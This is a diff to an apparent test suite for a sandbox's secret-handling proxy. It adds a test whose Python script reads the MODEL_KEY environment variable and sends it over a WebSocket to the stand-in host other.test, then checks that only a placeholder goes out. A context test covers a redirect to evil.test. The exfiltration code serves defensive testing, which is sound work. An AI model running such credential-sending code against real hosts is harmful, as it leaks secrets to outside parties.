@@ -131,6 +131,26 @@ describe("where a secret may be put in, and nowhere else", () => {
     }
   });
 
+  it("EG-16 in a WebSocket, where nobody reads, a placeholder stays one, in text and in bytes", async () => {
+    const script = `
+import os, socket, ssl
+word = os.environ["MODEL_KEY"].encode()
+plain = socket.create_connection(("other.test", 443), 20)
+one = ssl.create_default_context().wrap_socket(plain, server_hostname="other.test")
+one.settimeout(20)
+one.sendall(b"GET /ws HTTP/1.1\\r\\nHost: other.test\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Key: x\\r\\n\\r\\n")
+print(one.recv(4096).decode().split(" ")[1])
+for kind in (0x81, 0x82):
+    frame = bytes([kind, 0x80 | len(word)]) + bytes(4) + word
+    one.sendall(frame)
+    heard = b""
+    while len(heard) < len(frame): heard += one.recv(4096)
+    print(heard == frame)`;
+    const { stdout, stderr } = await sandbox.run(["python3", "-c", script], { timeoutMs: 60_000 });
+    expect(text(stdout), text(stderr)).toBe("101\nTrue\nTrue\n");
+    expect((await seen()).map(({ what }) => what)).toEqual(["UPGRADE /ws"]);
+  });
+
   it("SE-2 a redirect to another place does not take it along", async () => {
     await bench.lab.name("evil.test", [WORLD]);
     expect(await ask('-L -H "x-api-key: $MODEL_KEY" "https://model.test/redirect"')).toMatch(/\n403$/);
